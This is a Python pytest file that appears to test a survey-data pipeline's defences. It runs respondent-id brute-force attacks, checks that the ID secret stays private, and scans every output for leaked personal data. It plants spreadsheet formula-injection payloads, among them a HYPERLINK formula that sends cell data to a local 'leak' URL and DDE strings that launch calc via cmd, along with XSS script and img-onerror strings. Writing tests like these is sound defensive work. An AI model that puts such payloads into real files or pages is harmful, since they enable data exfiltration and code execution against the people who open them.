"""Attacks a determined reader could try on a run's outputs; each must fail on every build.

One deployment of a non-demo survey (``pilot``, the demo data under another key) runs every
wave and the reporting through Dagster on a SQLite instance, with no id secret in the
environment and hostile labels planted in its catalogue.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import shutil
import stat
import subprocess
import tempfile
import time
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pyarrow.parquet as pq
import pytest
import yaml
from test_pipeline import _distinctive

from perception.codebook import ID_SECRET_FILE, harmonize_file
from perception.config import load_project
from perception.demo import generate, pii_canaries
from pipelines.definitions import PROJECT_ROOT, build_definitions

SURVEY = "pilot"
SALT_ENV = "PERCEPTION_ID_SALT"
FIXED_KEYS = (b"perception:demo", f"perception:{SURVEY}".encode(), b"perception:perception")
FORMULAS = {
    1: '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Northern Highlands")',
    2: "+SUM(1+1)*cmd|' /C calc'!A0",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)",
}
SCRIPT = '</script><script>window.__pwned="script"</script>'
MARKUP = "<img src=x onerror=\"window.__pwned='img'\">"
W2_FILE = "demo_w2_university.dta"
KILLS = 3


@dataclass(frozen=True)
class Deployment:
    """A project root after one full run, its Dagster home and the run's reporting time."""

    root: Path
    dagster_home: Path
    reporting_seconds: float


def _run(root: Path, instance: dg.DagsterInstance, job: str, key: str) -> None:
    """Run one job partition in-process and fail the test if it fails."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        result = (
            build_definitions(root)
            .resolve_job_def(job)
            .execute_in_process(partition_key=key, instance=instance, raise_on_error=False)
        )
    assert result.success, f"{job} {key} failed"


def _plant_hostile_labels(config: Path) -> None:
    """Rename the demo survey to ``pilot`` and give regions and a title hostile labels."""
    survey = (config / "survey.yaml").read_text(encoding="utf-8")
    (config / "survey.yaml").write_text(
        survey.replace("survey: demo\n", f"survey: {SURVEY}\n").replace(
            'en: "Kelvara Peace Process Perception Survey"',
            f"en: {json.dumps('Kelvara ' + SCRIPT)}",
        ),
        encoding="utf-8",
    )
    variables = yaml.safe_load((config / "variables.yaml").read_text(encoding="utf-8"))
    codes = variables["variables"]["region"]["codes"]
    for code, label in FORMULAS.items():
        codes[code]["en"] = label
    codes[5] = {"en": "River " + SCRIPT, "fr": "Vallée " + MARKUP}
    (config / "variables.yaml").write_text(yaml.safe_dump(variables), encoding="utf-8")


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Deployment:
    """Run every wave and the reporting of ``pilot`` on a SQLite Dagster instance, no secret."""
    root = tmp_path_factory.mktemp("deployment")
    shutil.copytree(PROJECT_ROOT / "config", root / "config")
    _plant_hostile_labels(root / "config")
    generate(root / "data" / "raw")
    home = root / ".dagster"
    home.mkdir()
    shutil.copy(PROJECT_ROOT / "deploy" / "local" / "dagster.yaml", home / "dagster.yaml")
    with pytest.MonkeyPatch.context() as env:
        env.delenv(SALT_ENV, raising=False)
        env.setenv("DAGSTER_HOME", str(home))
        with dg.DagsterInstance.get() as instance:
            for wave in ("w1", "w2", "w3"):
                _run(root, instance, "wave_job", f"{SURVEY}|{wave}")
            start = time.monotonic()
            _run(root, instance, "reporting_job", SURVEY)
            seconds = time.monotonic() - start
    return Deployment(root, home, seconds)


def _raw_ids(root: Path) -> list[str]:
    """Return the personal respondent keys of wave 2 as the raw file holds them."""
    df = pd.read_stata(root / "data" / "raw" / W2_FILE, columns=["resp_key"])
    return [str(v) for v in df["resp_key"]]


def _hashed_ids(root: Path) -> set[str]:
    """Return the hashed respondent ids of wave 2 in the harmonized and weighted outputs."""
    processed = root / "data" / "processed" / SURVEY
    ids = set()
    for kind in ("harmonized", "weighted"):
        ids |= set(pd.read_parquet(processed / kind / "w2.parquet")["respondent_id"])
    return ids


def _attack(candidates: list[str], key: bytes, hashed: set[str]) -> int:
    """Hash every candidate id with ``key`` as the old fallback did; count the hits."""
    return sum(
        hmac.new(key, c.encode(), hashlib.sha256).hexdigest()[:16] in hashed for c in candidates
    )


def test_fixed_key_brute_force_matches_no_id(deployment: Deployment) -> None:
    """It tries every true raw id (an attacker's best dictionary) under each fixed key: no hit."""
    raw = _raw_ids(deployment.root)
    hashed = _hashed_ids(deployment.root)
    assert len(hashed) == len(raw) > 1000
    for key in FIXED_KEYS:
        assert _attack(raw, key, hashed) == 0, key
        # Control: the same attack matches every id hashed under that key.
        planted = {hmac.new(key, c.encode(), hashlib.sha256).hexdigest()[:16] for c in raw}
        assert _attack(raw, key, planted) == len(raw)


def test_secret_file_is_private_and_outside_every_output(deployment: Deployment) -> None:
    """It keeps the generated secret in .perception/secrets (0600, 256 bits), in no output."""
    path = deployment.root / ID_SECRET_FILE
    secret = path.read_text(encoding="ascii").strip()
    assert len(bytes.fromhex(secret)) == 32
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    published = [deployment.root / d for d in ("data", "dashboards")]
    assert not any(path.is_relative_to(p) for p in published)
    leaks = _grep({secret, secret.upper()}, _written_files(deployment))
    assert leaks == [path]


def test_library_and_dagster_give_the_same_stable_ids(
    deployment: Deployment, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """It hashes wave 2 alike through the library, a second Dagster run and a fresh process."""
    monkeypatch.delenv(SALT_ENV, raising=False)
    root = deployment.root
    project = load_project(root / "config" / "survey.yaml", root=root)
    harmonized = root / "data" / "processed" / SURVEY / "harmonized" / "w2.parquet"
    first = pd.read_parquet(harmonized)["respondent_id"]
    library = harmonize_file(
        root / "data" / "raw" / W2_FILE,
        project.codebooks["w2"],
        project.catalogue,
        survey=SURVEY,
        root=root,
    )["respondent_id"]
    assert library.tolist() == first.tolist()
    with dg.DagsterInstance.ephemeral() as instance:
        _run(root, instance, "wave_job", f"{SURVEY}|w2")
    assert pd.read_parquet(harmonized)["respondent_id"].tolist() == first.tolist()
    # A deployment without its secret file gets another secret, so other ids.
    with pytest.warns(UserWarning, match="Back it up"):
        elsewhere = harmonize_file(
            root / "data" / "raw" / W2_FILE,
            project.codebooks["w2"],
            project.catalogue,
            survey=SURVEY,
            root=tmp_path,
        )["respondent_id"]
    assert not set(elsewhere) & set(first)


def test_secret_from_the_environment_wins(
    deployment: Deployment, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """It keys ids from PERCEPTION_ID_SALT when set, in the library and the Dagster wave job."""
    root = tmp_path / "project"
    shutil.copytree(deployment.root, root, ignore=shutil.ignore_patterns(".dagster"))
    secret = "f" * 64
    monkeypatch.setenv(SALT_ENV, secret)
    with dg.DagsterInstance.ephemeral() as instance:
        _run(root, instance, "wave_job", f"{SURVEY}|w2")
    key = hmac.new(
        secret.encode(), f"perception respondent id|{SURVEY}".encode(), hashlib.sha256
    ).digest()
    hashed = _hashed_ids(root)
    assert _attack(_raw_ids(root), key, hashed) == len(hashed)
    assert not hashed & _hashed_ids(deployment.root)


# --------------------------------------------------------------------------- canaries


def _written_files(deployment: Deployment) -> list[Path]:
    """Return every file the run wrote: all but the raw data and the configuration."""
    untouched = [deployment.root / "data" / "raw", deployment.root / "config"]
    return [
        p
        for p in sorted(deployment.root.rglob("*"))
        if p.is_file() and not any(p.is_relative_to(u) for u in untouched)
    ]


def _decoded(path: Path) -> tuple[bytes, list[pd.DataFrame]]:
    """Return a file's bytes with compressed content decoded, and the tables it holds."""
    data = path.read_bytes()
    frames: list[pd.DataFrame] = []
    if path.suffix == ".parquet":
        table = pq.read_table(path)
        frames.append(table.to_pandas())
        data += b" ".join((table.schema.metadata or {}).values())
    elif path.suffix == ".duckdb":
        with duckdb.connect(str(path), read_only=True) as con:
            names = [r[0] for r in con.execute("SHOW TABLES").fetchall()]
            frames += [con.execute(f'SELECT * FROM "{n}"').df() for n in names]
    elif zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            data += b" ".join(archive.read(n) for n in archive.namelist())
    for frame in frames:
        data += frame.to_csv(index=False).encode("utf-8")
    return data, frames


def _grep(patterns: set[str], files: list[Path]) -> list[Path]:
    """Return the files whose decoded bytes contain any pattern (fixed strings, GNU grep -F)."""
    assert patterns and all(p and "\n" not in p for p in patterns)
    hits = []
    with tempfile.NamedTemporaryFile("w", encoding="utf-8", suffix=".txt") as listing:
        listing.write("\n".join(sorted(patterns)) + "\n")
        listing.flush()
        for path in files:
            data, _ = _decoded(path)
            grep = subprocess.run(
                ["grep", "-F", "-a", "-q", "-f", listing.name], input=data, check=False
            )
            assert grep.returncode in (0, 1), f"grep failed on {path}"
            if grep.returncode == 0:
                hits.append(path)
    return hits


def test_no_canary_anywhere_a_run_writes(deployment: Deployment) -> None:
    """It finds no raw name, phone, key, comment or GPS value in any file a run wrote.

    That is every processed output, export, dashboard and image, the secret folder, and
    Dagster's own SQLite run, event and schedule storage and compute logs.
    """
    canaries = pii_canaries(deployment.root / "data" / "raw")
    files = _written_files(deployment)
    dagster = [p for p in files if p.is_relative_to(deployment.dagster_home)]
    assert any(p.suffix == ".db" for p in dagster), dagster
    assert {p.suffix for p in files} >= {".parquet", ".csv", ".xlsx", ".duckdb", ".html", ".db"}
    # Control: the scan finds a canary planted in a copy of Dagster's event log.
    planted = deployment.root.parent / "planted.db"
    db = next(p for p in dagster if p.suffix == ".db")
    planted.write_bytes(db.read_bytes() + sorted(_distinctive(canaries))[0].encode())
    assert _grep(set(_distinctive(canaries)), [planted]) == [planted]
    assert _grep(set(_distinctive(canaries)), files) == []
    for path in files:
        _, frames = _decoded(path)
        values = {str(v) for f in frames for c in f.columns for v in f[c].dropna().unique()}
        assert not values & canaries, path
